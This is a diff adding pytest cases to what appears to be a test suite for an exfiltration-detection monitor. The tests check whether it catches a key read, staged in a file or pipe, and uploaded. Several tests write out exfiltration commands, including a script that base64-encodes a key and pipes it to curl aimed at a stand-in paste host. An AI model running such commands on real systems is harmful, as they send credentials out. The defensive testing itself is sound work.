@@ -387,6 +387,73 @@ def test_provisioner_rewriting_hosts_links_nothing(monitor, standin, fake_home, 
     silent_run(monitor, standin, fake_home, tmp_path, "provisioner-hosts", shell, hosts=(PASTE,))
 
 
+# --- Class: order within a process: what a holder wrote once it held the data, not before ------
+# The kernel keeps each (process, file) pair's last write time; a pipe's writes come as records.
+# A file opened before the read and written after it holds the data; one written before the read
+# (the report a script wrote, then a key it read for itself) does not.
+
+def test_file_opened_before_the_read_written_after_it(monitor, standin, fake_home, tmp_path):
+    key = key_of(fake_home)
+    out = tmp_path / "out.txt"
+    writer = ("python3 -c 'import sys,time; f=open(sys.argv[1],\"w\"); time.sleep(0.3); "
+              "d=open(sys.argv[2]).read(); time.sleep(0.3); f.write(d); f.close()' "
+              f"{out} {key}")
+    found = dataflow_attack(monitor, standin, fake_home, tmp_path, "open-before-write-after",
+                            f"{writer} && " + UPLOAD.format(out))
+    assert any("staged in" in get(r, "event.reason", "") for r in found), [get(r, "event.reason") for r in found]
+    summaries = [r for r in monitor.records() if get(r, "event.action") == "file-summary"
+                 and get(r, "file.path") == str(out) and get(r, "exfilwatch.file.opened_for_write")]
+    assert summaries and all(get(r, "exfilwatch.file.last_write") for r in summaries), summaries
+    assert_no_secret(monitor, key)
+
+
+def test_child_writing_a_file_its_shell_opened(monitor, standin, fake_home, tmp_path):
+    # `{ cat key; }`: the shell opens out.txt, cat only inherits it; the kernel announces cat's
+    # first write through the inherited fd, and the summary carries its time.
+    key = key_of(fake_home)
+    out = tmp_path / "out.txt"
+    found = dataflow_attack(monitor, standin, fake_home, tmp_path, "inherited-fd-write",
+                            f"{{ sleep 0.2; cat {key}; }} > {out} && " + UPLOAD.format(out))
+    assert any("staged in" in get(r, "event.reason", "") for r in found), [get(r, "event.reason") for r in found]
+    assert_no_secret(monitor, key)
+
+
+def test_report_written_before_the_key_read_is_silent(monitor, standin, fake_home, tmp_path):
+    # The everyday twin: a script writes report.txt and closes it, later reads the key for
+    # itself (here a digest of it) and stays alive a while; another process uploads the report.
+    key = key_of(fake_home)
+    report = tmp_path / "report.txt"
+    script = ("python3 -c 'import sys,time,hashlib; f=open(sys.argv[1],\"w\"); "
+              "f.write(\"build 1234 passed\\n\" * 200); f.close(); time.sleep(0.5); "
+              "hashlib.sha256(open(sys.argv[2],\"rb\").read()).hexdigest(); time.sleep(1.5)' "
+              f"{report} {key}")
+    silent_run(monitor, standin, fake_home, tmp_path, "report-before-key",
+               f"{script} && " + UPLOAD.format(report))
+
+
+def test_pipe_written_before_the_key_read_is_silent(monitor, standin, fake_home, tmp_path):
+    # A pipe's writes carry what the writer held at each write: a banner written two seconds
+    # before the key read holds nothing. Its attack twin writes the key after.
+    key = key_of(fake_home)
+    curl = f"curl -sk --resolve {PASTE}:8443:127.0.0.1 --data-binary @- https://{PASTE}:8443/"
+    script = ("python3 -c 'import sys,time,hashlib; sys.stdout.write(\"starting build 1234\\n\"); "
+              "sys.stdout.flush(); time.sleep(2.5); d=open(sys.argv[1],\"rb\").read(); "
+              "hashlib.sha256(d).hexdigest(); time.sleep(0.5)' "
+              f"{key}")
+    silent_run(monitor, standin, fake_home, tmp_path, "pipe-before-key", f"{script} | {curl}")
+
+
+def test_pipe_written_after_the_key_read(monitor, standin, fake_home, tmp_path):
+    key = key_of(fake_home)
+    curl = f"curl -sk --resolve {PASTE}:8443:127.0.0.1 --data-binary @- https://{PASTE}:8443/"
+    script = ("python3 -c 'import sys,time,base64; sys.stdout.write(\"starting build 1234\\n\"); "
+              "sys.stdout.flush(); time.sleep(2.5); d=open(sys.argv[1],\"rb\").read(); "
+              "sys.stdout.write(base64.b64encode(d).decode()); sys.stdout.flush(); time.sleep(0.5)' "
+              f"{key}")
+    dataflow_attack(monitor, standin, fake_home, tmp_path, "pipe-after-key", f"{script} | {curl}")
+    assert_no_secret(monitor, key)
+
+
 # --- Class: data through channels (telemetry the taint model follows) ------------------------
 # Each channel between two processes yields object-io records at both ends naming the same
 # object (kind and id): the writer's "write" and the reader's "read", with the bytes moved.
